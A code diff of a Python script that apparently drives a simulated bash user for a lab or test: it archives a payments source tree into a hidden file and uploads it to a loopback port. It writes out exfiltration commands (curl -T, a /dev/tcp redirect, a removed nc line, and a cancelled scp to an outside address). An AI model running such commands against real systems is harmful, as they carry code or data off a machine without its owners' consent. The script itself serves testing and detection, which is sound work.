@@ -2,8 +2,8 @@
 
 The steps use what bash offers a person (completion, recall, line editing, Ctrl-C), one no-echo prompt,
 answered wrong and then right, and a full-screen editor where there is one. Nothing here leaves the machine:
-what is "sent out" goes to a closed port on loopback. The script knows what it typed, for the test that
-compares; the lab does not.
+what is "sent out" goes to a server on loopback that keeps nothing. The script knows what it typed, for the
+test that compares; the lab does not.
 """
 
 from __future__ import annotations
@@ -11,10 +11,7 @@ from __future__ import annotations
 import re
 import secrets
 import shutil
-import socket
 import string
-from collections.abc import Iterator
-from contextlib import contextmanager
 
 from .typist import Typist
 
@@ -24,14 +21,6 @@ ARCHIVE = ".cache.tgz"
 def new_passphrase() -> str:
     """Sixteen characters that occur nowhere else by chance."""
     return "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(16))
-
-
-@contextmanager
-def closed_port() -> Iterator[int]:
-    """A port on loopback that refuses every connection: bound, so nobody else takes it, but not listening."""
-    with socket.socket() as holder:
-        holder.bind(("127.0.0.1", 0))
-        yield holder.getsockname()[1]
 
 
 def prompt_pattern(ps1: str) -> re.Pattern[str]:
@@ -89,28 +78,26 @@ def open_vault(person: Typist, passphrase: str) -> None:
 
 
 def pack_and_send(person: Typist, port: int) -> None:
-    """Pack the tree, try to send it out, recall the line, change it and try once more."""
+    """Pack the tree, send it out, recall the line, change it and send it once more."""
     person.run(f"tar czf {ARCHIVE} src/payments")
     person.run(f"ls -lh {ARCHIVE}", reading=0.5)
-    attempt = upload(port)
-    person.run(attempt, reading=0.6)
+    sending = upload(port)
+    person.run(sending, reading=0.6)
     person.press("up")
-    person.wait_for(re.escape(attempt) + r"$")
+    person.wait_for(re.escape(sending) + r"$")
     person.pause(0.4)
     person.press("ctrl-a")
     person.type("time ")
-    person.submit(f"time {attempt}")
+    person.submit(f"time {sending}")
     person.wait_for_prompt()
     person.pause(0.6)
     person.cancel(f"scp {ARCHIVE} john@198.51.100.7:")
 
 
 def upload(port: int) -> str:
-    """A command line that this machine can run and that tries to send the archive to a closed port."""
+    """A command line that this machine can run and that sends the archive to a port on loopback."""
     if shutil.which("curl"):
         return f"curl -sS -m 5 -T {ARCHIVE} http://127.0.0.1:{port}/drop"
-    if shutil.which("nc"):
-        return f"nc -w 5 127.0.0.1 {port} < {ARCHIVE}"
     return f"cat {ARCHIVE} > /dev/tcp/127.0.0.1/{port}"
 
 
